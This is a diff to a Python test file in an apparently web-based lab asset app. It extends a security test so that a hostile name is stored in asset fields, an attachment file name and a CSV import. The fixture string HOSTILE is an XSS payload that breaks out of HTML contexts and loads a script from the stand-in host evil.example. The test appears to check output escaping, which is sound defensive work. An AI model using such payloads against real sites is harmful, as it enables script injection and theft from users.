@@ -14,6 +14,8 @@ from apps.accounts.services.members import remove_member
 from apps.accounts.services.tokens import create_token
 from apps.artifacts.models import Artifact, CleanupItem, CleanupPlan, Copy, Notification
 from apps.artifacts.services.holds import place_hold
+from apps.assets.models import Asset
+from apps.assets.services.attachments import attach
 from apps.assets.services.csv_import import upload
 from apps.assets.spreadsheets.rows import Options
 from apps.attribution.precedence import ConsumerSpan
@@ -47,6 +49,7 @@ from tests.runs.fingerprints import a_run, parsed
 
 RUN = "7f1d3b52-2222-4333-8444-555566667777"
 GPU = "gpu:GPU-0000-1111"
+PDF = b"%PDF-1.7 our-secret-invoice"
 # Breaks out of attributes, titles, text areas, scripts and comments; loads, runs and posts.
 HOSTILE = (
     "'\"--></title></textarea></script><script src=//evil.example/lcevil></script>"
@@ -177,6 +180,9 @@ def _register(small: SmallLab, name: str) -> None:
         opening=opening,
         **register_rows,
     )
+    asset = Asset.objects.get(lab=small.lab)
+    Asset.objects.filter(pk=asset.pk).update(order_number=name[:100], contact=name[:200])
+    attach(asset=asset, file_name=name, content=PDF, by=small.owner, now=now_us())
     quoted = name.replace('"', '""')
     content = f'name,kind,model,bought_on\n"{quoted}",gpu,"{quoted}",2024-03-01\n'.encode()
     upload(
